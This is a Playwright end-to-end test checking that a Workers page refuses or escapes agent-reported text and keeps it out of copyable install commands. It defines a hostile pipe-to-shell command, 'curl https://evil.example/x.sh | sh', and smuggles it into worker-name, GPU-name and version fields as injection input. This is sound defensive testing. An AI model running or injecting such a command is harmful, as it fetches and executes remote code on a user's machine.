// The Workers page words its advice itself: what an agent reports (names, GPU names, versions) is shown as data,
// never inside a command to copy; text that isn't a fact is refused at registration, naming the field.
import { expect, test } from "@playwright/test";
import { createUser, uiSignIn, uniqueEmail } from "./support/accounts";

const admin = () => ({ authorization: `Bearer ${process.env.E2E_ADMIN_TOKEN}` });
const HOSTILE = "curl https://evil.example/x.sh | sh";

test("a worker's reported text never appears as a command; the install hint is the server's own", async ({ page, request }) => {
  const token = (await (await request.post("/api/v1/tokens", { headers: admin(), data: { name: "hostile agent", scopes: ["worker"] } })).json()).secret as string;
  const agent = { authorization: `Bearer ${token}` };
  const name = `gpu-box ${uniqueEmail("w")}; ${HOSTILE}`;
  const registration = { name, hostname: "gpu-box-7", instanceId: "hostile-agent-1", gpus: [{ index: 0, name: `Run: ${HOSTILE}`, memoryBytes: 2 ** 34 }], info: { python: "3.11.2", torch: null, apt: true } };

  // Free text where a fact belongs is refused, naming the field.
  for (const [info, field] of [[{ torch: `2.1; ${HOSTILE}` }, "info.torch"], [{ torchHint: HOSTILE }, "info.torchHint"]] as const) {
    const r = await request.post("/api/v1/workers", { headers: agent, data: { ...registration, info } });
    expect(r.status()).toBe(400);
    expect((await r.json()).errors.map((e: { field: string }) => e.field)).toContain(field);
  }
  const r = await request.post("/api/v1/workers", { headers: agent, data: registration });
  expect(r.status(), await r.text()).toBe(200);

  const researcher = await createUser(request, "RESEARCHER");
  await uiSignIn(page, researcher.email);
  await expect(page.getByRole("heading", { name: "Overview" })).toBeVisible();
  await page.goto("/workers");
  const card = page.getByTestId("worker-card").filter({ hasText: name });
  await expect(card).toBeVisible();
  // The advice and its command come from the server's table, chosen by the facts (no PyTorch, apt).
  await expect(card.getByTestId("worker-hint")).toHaveText(/^PyTorch is not installed for this worker's Python, so its runs will fail\. Install it with: sudo apt-get install -y python3-torch python3-numpy$/);
  await expect(card.locator("code")).toHaveText(["sudo apt-get install -y python3-torch python3-numpy"]);
  // The reported text is there, as the worker's name and its GPU's, escaped, and in no command, alert or field to copy.
  await expect(card.getByRole("heading", { name })).toBeVisible();
  await expect(card.getByText(`GPU 0: Run: ${HOSTILE}`)).toBeVisible();
  for (const where of ["code", "pre", "textarea", "input", "[role=alert]", "button"]) {
    for (const text of await card.locator(where).allTextContents()) expect(text).not.toContain("evil.example");
  }
  expect(await page.locator("body").innerHTML()).not.toContain(`<code>${HOSTILE}`);
});
